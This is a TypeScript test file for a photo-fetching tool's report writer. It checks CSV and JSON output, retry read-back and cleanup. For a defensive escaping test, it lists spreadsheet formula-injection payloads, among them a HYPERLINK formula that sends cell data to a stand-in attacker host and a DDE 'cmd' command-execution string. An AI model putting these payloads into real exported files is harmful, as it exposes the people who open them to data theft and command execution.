import { createReadStream, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { readReport } from '../../engine/fetches/lists/read-report.ts';
import type { StoredDetails, StoredItem } from './row-store.ts';
import { type ReportSource, writeReport } from './write-report.ts';

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'shoal-report-'));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const sizes = { bytesIn: 5_000, bytesOut: 900, width: 75, height: 50 };
const items: StoredItem[] = [
  {
    index: 1,
    input: '/photos/a, "b"\n.jpg',
    state: 'done',
    output: '/photos/thumbs/a.jpg',
    ms: 1.5,
    ...sizes,
  },
  {
    index: 0,
    input: 'https://example.com/é.jpg',
    state: 'failed',
    ms: 2,
    ...sizes,
    error: { code: 'HTTP_404', message: 'It is not there, "gone".', tries: 2 },
  },
];
const counters = {
  total: 2,
  totalKnown: true,
  done: 1,
  skipped: 0,
  failed: 1,
  cancelled: 0,
  inFlight: 0,
  bytesIn: 5_000,
  bytesOut: 900,
};
const source: ReportSource = { title: 'photos', elapsedMs: 1_234, counters, listColumns: [], items };

it('writes CSV that reads back, whatever stands in the names', async () => {
  const path = join(folder, 'report.csv');
  await writeReport(path, 'csv', source);
  const rows = parse(readFileSync(path), { columns: true, bom: true }) as Record<string, string>[];
  expect(rows).toEqual([
    {
      input: items[0]?.input,
      status: 'done',
      output: '/photos/thumbs/a.jpg',
      thumbnail: '',
      bytesIn: '5000',
      bytesOut: '900',
      width: '75',
      height: '50',
      ms: '1.5',
      tries: '',
      sha256: '',
      reason: '',
      errorCode: '',
      errorMessage: '',
    },
    expect.objectContaining({ errorCode: 'HTTP_404', errorMessage: 'It is not there, "gone".', bytesIn: '' }),
  ]);
});

it('writes JSON with totals and every item', async () => {
  const path = join(folder, 'report.json');
  await writeReport(path, 'json', source);
  const report = JSON.parse(readFileSync(path, 'utf8'));
  expect(report).toMatchObject({
    title: 'photos',
    summary: { total: 2, done: 1, failed: 1, seconds: 1.234 },
    results: [
      { status: 'done', width: 75 },
      { status: 'failed', error: { code: 'HTTP_404', tries: 2 } },
    ],
  });
});

it('tells a fetched file and its thumbnail apart', async () => {
  const item = { ...(items[0] as StoredItem), output: '/saved/a.jpg', thumbnail: '/saved/thumbs/a.jpg' };
  await writeReport(join(folder, 'report.json'), 'json', { ...source, items: [item] });
  const [told] = JSON.parse(readFileSync(join(folder, 'report.json'), 'utf8')).results;
  expect(told).toMatchObject({ output: '/saved/a.jpg', thumbnail: { output: '/saved/thumbs/a.jpg' } });
  await writeReport(join(folder, 'report.csv'), 'csv', { ...source, items: [item] });
  const [row] = parse(readFileSync(join(folder, 'report.csv')), { columns: true, bom: true });
  expect(row).toMatchObject({ output: '/saved/a.jpg', thumbnail: '/saved/thumbs/a.jpg' });
});

it('keeps what the list said of each item, its digest and how often it was tried', async () => {
  const said = {
    tries: 2,
    sha256: 'ab'.repeat(32),
    listed: { name: 'one.jpg' },
    columns: { 'a "title"': 'x, y', status: 'theirs' },
  };
  const fetched = { ...(items[0] as StoredItem), ...said };
  const some = { ...source, listColumns: ['name', 'a "title"', 'status'], items: [fetched, ...items] };
  await writeReport(join(folder, 'report.json'), 'json', some);
  const [told] = JSON.parse(readFileSync(join(folder, 'report.json'), 'utf8')).results;
  expect(told).toMatchObject(said);
  await writeReport(join(folder, 'report.csv'), 'csv', some);
  const rows = parse(readFileSync(join(folder, 'report.csv')), { columns: true, bom: true });
  expect(rows).toMatchObject([
    {
      status: 'done',
      tries: '2',
      sha256: said.sha256,
      'list.name': 'one.jpg',
      'list.a "title"': 'x, y',
      'list.status': 'theirs',
    },
    { 'list.name': '', 'list.status': '' },
    { status: 'failed' },
  ]);
});

const formulas = [
  '=HYPERLINK("http://evil.test/?"&A1)',
  "=cmd|'/C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '+1-1',
  '\t=1',
  ' =1',
  '"=1',
  '＝1',
  'a;=1',
  'a\n=1',
];

it('writes what a spreadsheet would compute as text: names, messages, and what a list says', async () => {
  const path = join(folder, 'report.csv');
  const told: ReportSource['items'] = formulas.map((input, index) => ({
    ...(items[0] as StoredItem),
    index,
    input,
    output: input,
    state: 'failed',
    error: { code: 'HTTP_404', message: input },
    columns: { [input]: input, depth: '-5' },
  }));
  await writeReport(path, 'csv', { ...source, listColumns: [...formulas, 'depth'], items: told });
  const text = readFileSync(path, 'utf8');
  const rows = parse(text, { bom: true }) as string[][];
  expect(rows).toHaveLength(formulas.length + 1);
  // A spreadsheet may split cells at semicolons or tabs, and then does not recognise our quotation marks.
  const seen = [...rows.flat(), ...text.split(/[;\t\r\n]/)].filter((cell) => !/^-?\d+$/.test(cell));
  for (const cell of seen) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝]/);
  // Numbers stay numbers.
  expect(rows[1]).toContain('1.5');
  expect(rows[1]).toContain('-5');
});

it('is read back by --retry-failed as it was', async () => {
  const path = join(folder, 'report.csv');
  const texts = [...formulas, "'=1", ' a '];
  const columns = Object.fromEntries(texts.map((text, at) => [`n${at}${text}.`, text]));
  const url = 'https://example.com/a;=1,-2';
  const item: StoredItem & StoredDetails = {
    ...(items[1] as StoredItem),
    input: url,
    listed: { name: '=a.jpg' },
    columns,
  };
  const listColumns = ['name', ...Object.keys(columns)];
  await writeReport(path, 'csv', { ...source, listColumns, items: [item] });
  const [entries] = await Array.fromAsync(readReport(createReadStream(path), 'report.csv'));
  expect(entries).toEqual([expect.objectContaining({ input: url, name: '=a.jpg', columns })]);
});

it('writes thousands of items, and a run without any', async () => {
  const item = items[0] as StoredItem;
  const many = Array.from({ length: 2_500 }, (_, index) => ({ ...item, index }));
  for (const [name, all] of [
    ['many', many],
    ['none', []],
  ] as const) {
    const path = join(folder, `${name}.json`);
    await writeReport(path, 'json', { ...source, items: all });
    expect(JSON.parse(readFileSync(path, 'utf8')).results).toHaveLength(all.length);
  }
});

it('leaves nothing behind where it cannot be written whole', async () => {
  function* broken(): Generator<StoredItem> {
    yield items[0] as StoredItem;
    throw new Error('broken');
  }
  const path = join(folder, 'report.csv');
  await expect(writeReport(path, 'csv', { ...source, items: broken() })).rejects.toThrow('broken');
  expect(readdirSync(folder)).toEqual([]);
});
